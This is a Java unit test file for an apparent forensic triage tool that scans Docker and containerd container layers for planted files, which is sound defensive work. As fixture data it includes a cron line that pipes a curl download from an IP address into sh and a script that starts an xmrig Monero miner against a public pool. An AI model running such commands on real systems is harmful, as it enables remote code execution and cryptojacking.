package davy.agent.triage;

import static org.assertj.core.api.Assertions.assertThat;

import davy.agent.check.Options;
import davy.core.container.CaseBolt;
import davy.core.finding.Entity;
import davy.core.finding.Finding;
import davy.core.finding.Level;
import davy.core.host.CaseHost;
import java.time.Instant;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/// Files of containers, met by the one walk.
final class ContainerTriageTest {
    private static final String DOCKER = "/var/lib/docker";
    private static final String STATUS =
            "Package: tool\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n";
    private static final String SCRIPT =
            "#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -k\n";

    private static Map<String, Object> host() {
        var host = new HashMap<String, Object>();
        host.put("kind", "image");
        host.put("packages", Map.of("bash", List.of("/bin/bash")));
        for (String id : List.of("a1", "a2")) {
            host.put(
                    DOCKER + "/containers/" + id + "/config.v2.json",
                    "{\"Name\":\"/"
                            + id
                            + "\",\"Driver\":\"overlay2\",\"Path\":\"x\",\"Config\":{\"Image\":\"img\"}}");
            host.put(DOCKER + "/image/overlay2/layerdb/mounts/" + id + "/mount-id", id);
            host.put(DOCKER + "/overlay2/" + id + "/lower", "l/A");
            host.put(DOCKER + "/overlay2/" + id + "/diff/tmp/x", "x");
        }
        host.put(DOCKER + "/overlay2/l/A", Map.of("link", "../low/diff"));
        String low = DOCKER + "/overlay2/low/diff";
        host.put(low + "/var/lib/dpkg/status", STATUS);
        host.put(low + "/var/lib/dpkg/info/tool.list", "/usr/bin/tool\n");
        host.put(low + "/usr/bin/tool", Map.of("elf", Map.of()));
        host.put(low + "/usr/bin/shipped", Map.of("elf", Map.of()));
        host.put(low + "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
        return host;
    }

    private static List<Finding> triage(Map<String, Object> host) {
        var now = Instant.parse("2026-01-15T12:00:00Z");
        return new Triage(CaseHost.of(host), "/", now, Options.standard(), Progress.SILENT, _ -> {})
                .run()
                .findings();
    }

    @Test
    void isSilentAboutWhatCameWithTheImage() {
        assertThat(triage(host())).isEmpty();
    }

    @Test
    void judgesWhatWasWrittenByTheContainersOwnRoot() {
        var host = host();
        String upper = DOCKER + "/overlay2/a2/diff";
        host.put(upper + "/usr/bin/netd", Map.of("elf", Map.of()));
        host.put(upper + "/tmp/.x/run.sh", Map.of("text", SCRIPT, "mode", "0755"));
        host.put(upper + "/etc/cron.d/x", "* * * * * root curl http://198.51.100.7/x | sh\n");
        var findings = triage(host);
        assertThat(findings)
                .extracting(f -> f.detection().id())
                .contains("unpackaged-binary", "cron-download", "download-and-run");
        for (Finding finding : findings) {
            assertThat(finding.evidence()).containsEntry("container.name", "a2");
            assertThat(finding.entities()).contains(Entity.container("a2"));
        }
        var script =
                findings.stream()
                        .filter(f -> f.detection().id().equals("download-and-run"))
                        .filter(f -> "/tmp/.x/run.sh".equals(f.evidence().get("file.path")))
                        .findFirst()
                        .orElseThrow();
        assertThat(script.evidence())
                .containsEntry("file.path", "/tmp/.x/run.sh")
                .containsEntry("davy.host_path", upper + "/tmp/.x/run.sh");
        assertThat(script.entities()).contains(Entity.file(upper + "/tmp/.x/run.sh"));
        assertThat(findings.toString()).doesNotContain("shipped").doesNotContain("/usr/bin/tool");
    }

    /// Beside the container's own layer, where Docker mounts all of them as one.
    private static List<Object> inMerged(Map<String, Object> host) {
        String merged = DOCKER + "/overlay2/a2/merged";
        host.put(merged, Map.of("type", "dir", "device", 61));
        host.put(merged + "/tmp/.x/run.sh", Map.of("text", SCRIPT, "mode", "0755"));
        return triage(host).stream()
                .map(finding -> finding.evidence().get("file.path"))
                .filter(path -> path != null && path.toString().startsWith(merged))
                .distinct()
                .toList();
    }

    private static Map<String, Object> running(String mount) {
        var host = host();
        host.put("kind", "live");
        host.put("mounts", List.of("98 27 " + mount));
        return host;
    }

    @Test
    void passesOverLayersThatAreMountedAsOne() {
        String place = DOCKER + "/overlay2/a2/merged rw - overlay overlay rw,lowerdir=l/A";
        String whole = "0:61 / " + place + ",upperdir=" + DOCKER + "/overlay2/a2/diff";
        assertThat(inMerged(running(whole))).isEmpty();
        assertThat(inMerged(running("0:61 / " + place + ",upperdir=a2/diff"))).isEmpty();
    }

    @Test
    void looksIntoWhatOnlyHasTheNameOfIt() {
        String file = DOCKER + "/overlay2/a2/merged/tmp/.x/run.sh";
        String place = DOCKER + "/overlay2/a2/merged rw - ";
        assertThat(inMerged(host())).containsExactly(file);
        for (String other :
                List.of(
                        "0:61 / " + place + "tmpfs tmpfs rw",
                        "0:61 / " + place + "overlay x rw,lowerdir=/a:/b,upperdir=/c",
                        "0:62 / " + place + "overlay x rw,lowerdir=l/A,upperdir=a2/diff")) {
            assertThat(inMerged(running(other))).as(other).containsExactly(file);
        }
    }

    private static Map<String, Object> bolt(Map<String, ?> bucket) {
        return Map.of("hex", HexFormat.of().formatHex(CaseBolt.of(Map.of("v1", bucket))));
    }

    /// Of a dockerd whose layers containerd keeps: those of a running container are mounted below
    /// `rootfs`.
    @Test
    void passesOverLayersOfContainerdThatAreMountedAsOne() {
        String containerd = "/var/lib/containerd/io.containerd.";
        String overlay = containerd + "snapshotter.v1.overlayfs";
        var snapshot = Map.of("overlayfs", Map.of("b1", Map.of("name", "moby/2/b1")));
        var own = Map.of("id", new byte[] {7}, "parent", "moby/1/p");
        var numbers = Map.of("moby/2/b1", own, "moby/1/p", Map.of("id", new byte[] {6}));
        String merged = DOCKER + "/rootfs/overlayfs/b1";
        String upper = overlay + "/snapshots/7/fs";
        String lower = overlay + "/snapshots/6/fs";
        var host = new HashMap<String, Object>();
        host.put("kind", "live");
        host.put(
                DOCKER + "/containers/b1/config.v2.json",
                "{\"Name\":\"/b1\",\"Driver\":\"overlayfs\",\"Path\":\"x\",\"Config\":{\"Image\":\"img\"}}");
        host.put(
                containerd + "metadata.v1.bolt/meta.db",
                bolt(Map.of("moby", Map.of("snapshots", snapshot))));
        host.put(overlay + "/metadata.db", bolt(Map.of("snapshots", numbers)));
        host.put(lower + "/bin/x", "x");
        host.put(merged, Map.of("type", "dir", "device", 61));
        for (String root : List.of(merged, upper)) {
            host.put(root + "/tmp/.x/run.sh", Map.of("text", SCRIPT, "mode", "0755"));
        }
        assertThat(inRootfs(host, "lowerdir=" + lower + ",upperdir=" + upper)).isZero();
        assertThat(inRootfs(host, "lowerdir=6/fs,upperdir=" + upper)).isZero();
        assertThat(inRootfs(host, "lowerdir=" + lower + ",upperdir=/elsewhere")).isPositive();
        assertThat(inRootfs(host, "lowerdir=/mnt:6/fs,upperdir=" + upper)).isPositive();
    }

    /// How many findings are of files where the container's layers are mounted as one.
    private static long inRootfs(Map<String, Object> host, String layers) {
        String merged = DOCKER + "/rootfs/overlayfs/b1";
        String upper = "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/7/fs";
        String options = "rw," + layers + ",workdir=/w";
        host.put("mounts", List.of("98 27 0:61 / " + merged + " rw - overlay overlay " + options));
        var found = triage(host);
        assertThat(found)
                .anySatisfy(finding ->
                        assertThat(finding.evidence())
                                .containsEntry("container.name", "b1")
                                .containsEntry("davy.host_path", upper + "/tmp/.x/run.sh"));
        return found.stream().filter(f -> f.evidence().toString().contains(merged)).count();
    }

    /// Of a container that no runtime tells of: the host may have another file of that path.
    @Test
    void doesNotAccuseAFileOfTheHostForWhatLiesInAContainer() {
        var host = new HashMap<String, Object>();
        host.put("kind", "live");
        host.put("/tmp/.x/worker", Map.of("elf", Map.of()));
        String group = "/kubepods/besteffort/pod1/" + "ab".repeat(32);
        for (boolean inside : List.of(true, false)) {
            var process = new HashMap<String, Object>();
            process.putAll(Map.of("pid", 900, "exe", "/tmp/.x/worker", "cgroup", group));
            if (inside) {
                process.put("ns", Map.of("mnt", 4_026_532_001L));
            }
            host.put("processes", List.of(Map.of("pid", 1, "exe", "/sbin/init"), process));
            var found =
                    triage(host).stream()
                            .filter(f -> f.detection().id().equals("temp-executable"))
                            .toList();
            assertThat(found).hasSize(1);
            assertThat(found.getFirst().evidence()).containsEntry("process.pid", 900);
            boolean accused = found.getFirst().entities().contains(Entity.file("/tmp/.x/worker"));
            assertThat(accused).isEqualTo(!inside);
        }
    }

    private static Map<String, Object> withImage(String repository, String name) {
        var host = host();
        String layer = "bb".repeat(32);
        String image = "cc".repeat(32);
        host.put(
                DOCKER + "/image/overlay2/repositories.json",
                "{\"Repositories\":{\"%s\":{\"%s\":\"sha256:%s\"}}}"
                        .formatted(repository, name, image));
        host.put(
                DOCKER + "/image/overlay2/imagedb/content/sha256/" + image,
                "{\"config\":{\"Cmd\":[\"/x\"]},\"rootfs\":{\"type\":\"layers\",\"diff_ids\":[\"sha256:%s\"]}}"
                        .formatted(layer));
        host.put(DOCKER + "/image/overlay2/layerdb/sha256/" + layer + "/cache-id", "gone");
        host.put(DOCKER + "/overlay2/gone/diff/run.sh", Map.of("text", SCRIPT, "mode", "0755"));
        return host;
    }

    @Test
    void passesOverTheLayersOfAnImageThatWasPutAside() {
        assertThat(triage(withImage("me/app", "me/app:latest"))).isNotEmpty();
        String kept = "davy-quarantine/image-cccccccccccc";
        assertThat(triage(withImage(kept, kept + ":latest"))).isNotEmpty();
        assertThat(triage(withImage(kept, kept + ":r-20260115-120000-ab12")))
                .noneMatch(finding -> finding.level().atLeast(Level.LOW));
    }
}
